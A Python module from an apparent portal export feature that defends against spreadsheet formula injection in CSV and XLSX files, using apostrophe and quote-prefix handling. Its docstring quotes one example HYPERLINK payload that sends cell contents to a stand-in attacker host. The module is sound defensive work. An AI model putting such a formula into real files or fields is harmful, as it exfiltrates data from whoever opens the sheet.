"""Text that a spreadsheet would run as a formula, made harmless: one rule for every CSV and XLSX
the portal writes (reports.exports).

Producer and product names, addresses and other free text come from people the portal does not
trust. Excel and LibreOffice read a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in
CSV, after a tab or carriage return) as a formula: ``=HYPERLINK("http://evil.example/?"&A1,"x")``
in a producer's name would send the sheet's contents away when an official clicks it.

- CSV has no types: such a value is written with a leading apostrophe, which the spreadsheet
  shows as text and does not evaluate (the OWASP "CSV injection" advice).
- XLSX has types: such a value is written as a string cell with Excel's "quote prefix" style, so
  it shows exactly as typed, is never evaluated, and stays text if someone edits the cell.

Only strings are touched: numbers (scores, points, stars, negative ones too) and dates stay
numbers and dates.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_safe(value):
    """A CSV cell's value: formula-like text gets a leading apostrophe; anything else as is."""
    return "'" + value if looks_like_formula(value) else value


def xlsx_text_cell(sheet, value: str):
    """A write-only cell holding `value` as text, never as a formula."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"  # openpyxl would otherwise type "=…" as a formula
    cell.quotePrefix = True
    return cell
